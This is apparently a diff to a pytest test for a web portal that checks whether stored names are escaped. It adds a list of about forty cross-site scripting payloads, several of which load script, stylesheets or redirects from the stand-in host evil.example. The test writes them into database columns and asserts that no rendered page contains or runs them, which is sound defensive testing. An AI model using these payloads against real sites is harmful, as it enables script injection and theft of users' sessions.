@@ -14,6 +14,49 @@ from tests.portal.reading import works
 pytestmark = pytest.mark.sqlite
 HOSTILE = """x"'><img src=x onerror=alert(1)><svg/onload=alert(2)>"""
 SCHEME = "javascript:alert(3)"
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<ScRiPt>alert(1)</ScRiPt>",
+    "<script/src=//evil.example/x.js></script>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src='x'/onerror=alert(1)>",
+    '<img src="x` `<script>alert(1)</script>"` `>',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<form><button formaction=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href=' javascript:alert(1)'>x</a>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<div style='background:url(javascript:alert(1))'>",
+    "<div hx-get=//evil.example hx-trigger=load>",
+    "<div hx-on:click=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "' onmouseover='alert(1)' x='",
+    '" autofocus onfocus="alert(1)" x="',
+)
+"""What would run if a page took a name for markup."""
 NAMED = {
     "company": "name",
     "person": "name",
@@ -55,6 +98,7 @@ def test_the_reader_of_this_test_sees_what_a_browser_would_run() -> None:
     assert run_by(f'<p title="{HOSTILE}">') != []
     assert run_by(f"<p>{HOSTILE}</p>") != []
     assert run_by(f'<a href="{SCHEME}">') != []
+    assert len(set(PAYLOADS)) >= 40
 
 
 @pytest.mark.slow
@@ -64,7 +108,7 @@ def test_no_page_takes_a_name_for_markup(name, visit, database, clock):
     works(database, clock)
     with database.write() as session:
         for table, column in NAMED.items():
-            said = {"said": f"{HOSTILE} {table}"}
+            said = {"said": f"{HOSTILE} {table} {' '.join(PAYLOADS)}"}
             session.execute(text(f"UPDATE {table} SET {column} = :said"), said)
         source = session.scalars(select(Connection).where(Connection.name == "netshop")).first()
         given = {"sha256": "0", "body": b"", "state": UploadState.DONE, "at": clock.now()}
@@ -88,6 +132,7 @@ def test_no_page_takes_a_name_for_markup(name, visit, database, clock):
             continue
         assert "<img src=x" not in page, url
         assert "<svg/onload" not in page, url
+        assert [payload for payload in PAYLOADS if payload in page] == [], url
         assert run_by(page) == [], url
         seen += answer.status_code == 200
         shown |= {each for each in (*NAMED, "upload.csv") if f"alert(2)&gt; {each}" in page}
